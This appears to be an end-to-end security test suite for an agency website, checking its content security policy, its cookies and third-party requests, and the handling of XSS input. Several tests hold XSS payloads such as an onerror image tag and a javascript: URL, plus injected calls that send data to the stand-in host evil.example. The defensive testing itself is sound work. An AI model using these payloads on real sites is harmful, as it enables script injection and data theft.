import { PLAIN_PAGES, toPath } from '../../src/routes.ts';
import { listingOf } from './support/listing-page.ts';
import { talentNamed } from './support/demo-talents.ts';
import { open, pngFile } from './support/fill-application.ts';
import { expect, test } from './support/test.ts';
import { split } from '../support/rows.ts';

/** One page per kind, the other language, and missing addresses; a function answers the last. */
const KINDS = [
  ...[toPath({ page: 'home' }, 'pt'), listingOf('pt')],
  ...PLAIN_PAGES.map((page) => toPath({ page }, 'pt')),
  ...split('/en/be-amz /en/be-amazing-face /en /en/favourites'),
  ...split('/nada/disso /en/nope /modelos/999999/x'),
];

const DESK = process.env['E2E_BACK_OFFICE_URL'] ?? '';
/** Own files, pictures and films of any https address, two players; the demo's come from its desk. */
const POLICY = `default-src 'none';base-uri 'none';object-src 'none';form-action 'self';font-src 'self';img-src 'self' data: blob: https: ${DESK};media-src 'self' https: ${DESK};connect-src 'self' blob:;worker-src 'self';manifest-src 'self';frame-src https://player.vimeo.com https://www.youtube-nocookie.com; script-src`;

test('Every page says what it may do, sets no cookie', { tag: '@desktop' }, async ({ request }) => {
  for (const path of KINDS) {
    const answer = await request.get(path);
    const { 'x-content-type-options': kind, 'set-cookie': cookie } = answer.headers();
    expect([kind, cookie], path).toEqual(['nosniff', undefined]);
    const [head = ''] = (await answer.text()).split('</head>');
    // Before all that it judges: Astro's code and styles.
    const [before = '', , policy = ''] = head.split(
      /(<meta http-equiv="content-security-policy" content="([^"]*)">)/,
    );
    expect(before, path).not.toMatch(/<style|<script type="module"/);
    expect(policy.slice(0, POLICY.length), path).toBe(POLICY);
    expect(policy, path).toMatch(
      /; script-src 'self' 'sha256-[^;]*; style-src 'self'(?: 'sha256-[^; ]*)*;/,
    );
    expect(policy, path).not.toMatch(/unsafe|script-src[^;]* (?:\*|https?:|data:)/);
    // No connections open ahead of a press.
    expect(head, path).not.toMatch(/rel="?(?:preconnect|dns-prefetch)/);
  }
});

test('No page asks other hosts before a press', { tag: '@desktop' }, async ({ page, baseURL }) => {
  // The back office's pictures and films count as the agency's own: the demo serves them from
  // another port.
  const isOurs = (url: string) => !/^https?:/.test(url) || url.startsWith(`${DESK}/`);
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== baseURL && !isOurs(request.url()))
      foreign.push(`${page.url()}: ${request.url()}`);
  });
  const { id } = await talentNamed(page, 'Açucena Vilar');
  // Every kind with pictures or films, and dialogs opened by an address: the policy allows other
  // hosts nothing else.
  for (const path of split(`
      / /modelos#T /modelos/${id}#video /contato#fale /favoritos#ids=1001,1002 /sobre-nos
      /amazing-face /seja-amz
    `)) {
    await page.goto(path);
    // Scrolls to the end, because some content loads on scrolling.
    await page.evaluate(async () => {
      for (let top = 0; top < document.body.scrollHeight; top += 600) {
        window.scrollTo(0, top);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    });
    await page.waitForLoadState('networkidle');
  }
  expect(foreign).toEqual([]);
  expect(await page.context().cookies()).toEqual([]);
});

test('what an address, the storage or a file’s name says is text', async ({ page }) => {
  const attack = '"><img src=x onerror="window.hacked=1">';
  const expectInert = async () => {
    await page.waitForLoadState('networkidle');
    await expect(page.locator('[onerror]'), page.url()).toHaveCount(0);
  };
  for (const path of [
    ...[`/en/favourites#ids=1001,${attack}`, `/en/models#${attack}`],
    `/modelos?letra=${attack}#%3Cscript%3E`,
  ]) {
    await page.goto(path);
    await expectInert();
  }
  await page.goto(`/en/contact#talk=${encodeURIComponent(attack)}`);
  await expect(page.getByLabel('Message')).toHaveValue(attack);
  await expectInert();
  await page.evaluate((text) => {
    const measures = { heightCm: text, jeans: text, shoes: text };
    const card = { id: '1001', name: text, cover: 'javascript:window.hacked=1', ...measures };
    localStorage.setItem('favorites', JSON.stringify({ 1001: card, [text]: card }));
  }, attack);
  await page.goto('/en/favourites');
  await expectInert();
  const form = await open(page);
  await form.slot(0).setInputFiles(await pngFile(`${attack}.png`));
  await expect(form.preview(0)).toBeVisible();
  await expectInert();
});

test('injected code can do nothing', { tag: '@desktop' }, async ({ page, expectedErrors }) => {
  expectedErrors.push(/Content Security Policy|TrustedHTML|TrustedScript|Failed to load resource/);
  const asked: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) asked.push(request.url());
  });
  await page.goto('/en/models');
  const outcomes = await page.evaluate(async () => {
    const add = (tag: string, name = '', value = '', text = '') => {
      const element = document.createElement(tag);
      if (name !== '') element.setAttribute(name, value);
      element.append(text);
      document.body.append(element);
      return element;
    };
    const attempts: Readonly<Record<string, () => unknown>> = {
      handler: () => add('a', 'onclick', 'window.hacked = 1').click(),
      script: () => add('script', '', '', 'window.hacked = 1'),
      foreignScript: () => add('script', 'src', 'https://evil.example/a.js'),
      markup: () => (add('p').innerHTML = '<img src=x onerror="window.hacked = 1">'),
      // Later, because code that a test calls directly may evaluate anything.
      code: () =>
        new Promise((resolve) => setTimeout(resolve)).then(() => (0, eval)('window.hacked = 1')),
      style: () => getComputedStyle(add('p', 'style', 'position: fixed')).position,
      frame: () => add('iframe', 'src', 'https://evil.example/'),
      plugin: () => add('object', 'data', 'https://evil.example/'),
      base: () => add('base', 'href', 'https://evil.example/').baseURI,
      send: () => fetch('https://evil.example/', { method: 'POST', body: 'x' }),
      beacon: () => navigator.sendBeacon('https://evil.example/b', 'x'),
      form: () => (add('form', 'action', 'https://evil.example/') as HTMLFormElement).submit(),
    };
    const results: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        const result: unknown = await attempt();
        results[name] = typeof result === 'string' ? result : 'silent';
      } catch (error) {
        results[name] = error instanceof Error ? error.name : 'error';
      }
    }
    return results;
  });
  const refused = { markup: 'TypeError', code: expect.stringMatching(/Error$/), send: 'TypeError' };
  expect(outcomes).toMatchObject({ ...refused, style: 'static', base: page.url() });
  // A request after the attacks gets its answer.
  await page.evaluate(() => fetch('/talents.json').then((answer) => answer.text()));
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(asked).toEqual([]);
  expect(page.url()).toMatch(/\/en\/models$/);
});
